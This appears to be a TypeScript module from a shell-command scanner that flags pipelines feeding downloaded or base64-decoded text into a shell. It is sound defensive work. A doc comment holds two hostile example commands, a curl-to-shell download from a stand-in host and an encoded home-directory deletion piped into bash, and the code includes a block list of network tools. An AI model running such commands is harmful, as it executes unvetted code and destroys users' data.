// Pipeline-level findings: text piped into a shell or interpreter runs as code, worse when it was downloaded or decoded.
import { flag, type Findings } from '../findings.js';
import type { SimpleCommand } from '../types.js';
import { readsProgramFromStdin } from './interpreters.js';

/** One stage of a pipeline after unwrapping. */
export interface Stage {
  stage: number;
  cmd: SimpleCommand;
  /** A shell with no script argument (`sh`, `bash -s`): it runs whatever arrives on stdin. */
  shellReadsStdin: boolean;
}

const FETCHERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'aria2c', 'http', 'https', 'fetch', 'lftp']);

/** Whether a stage decodes its input (base64 -d, openssl enc -d…), so what it prints was hidden in the command. */
export function decodes(argv: readonly string[]): boolean {
  const [name = '', ...rest] = argv;
  if (/^(base64|base32|basenc)$/.test(name)) return rest.some((w) => /^-[a-zA-Z]*[dD]|^--decode$/.test(w));
  if (name === 'openssl') return rest.includes('-d') || rest.includes('-base64') || rest[0] === 'base64';
  if (name === 'xxd') return rest.some((w) => /^-[a-z]*r/.test(w));
  return /^(uudecode|rev|zcat|gunzip|bzcat|xzcat|zstdcat|tr)$/.test(name) || (name === 'gzip' && rest.includes('-d'));
}

/**
 * Flags pipelines whose later stage runs what earlier stages print.
 * Threat: `curl -s http://x/i.sh | sh`, `echo cm0gLXJmIH4= | base64 -d | bash`.
 */
export function checkPipeline(stages: Stage[], f: Findings): void {
  // Stages are recorded in order; only a list out of order is copied and sorted.
  const ordered = stages.every((s, i) => i === 0 || stages[i - 1]!.stage <= s.stage) ? stages : [...stages].sort((a, b) => a.stage - b.stage);
  for (const s of ordered) {
    if (s.stage === 0) continue;
    const runsStdin = s.shellReadsStdin || readsProgramFromStdin(s.cmd.argv);
    if (!runsStdin) continue;
    const name = s.cmd.argv[0] ?? '';
    const upstream = ordered.filter((u) => u.stage < s.stage);
    const span = { start: Math.min(...upstream.map((u) => u.cmd.span.start)), end: s.cmd.span.end };
    if (s.shellReadsStdin) flag(f, 'code-execution', `piping into ${name} runs the piped text as shell commands`, s.cmd.span);
    const fetcher = upstream.find((u) => FETCHERS.has(u.cmd.argv[0] ?? ''));
    if (fetcher) flag(f, 'network', `${fetcher.cmd.argv[0]} … | ${name} downloads code and runs it unseen`, span);
    const decoder = upstream.find((u) => decodes(u.cmd.argv));
    if (decoder) flag(f, 'obfuscation', `${decoder.cmd.argv[0]} … | ${name} decodes hidden text and runs it`, span);
  }
}
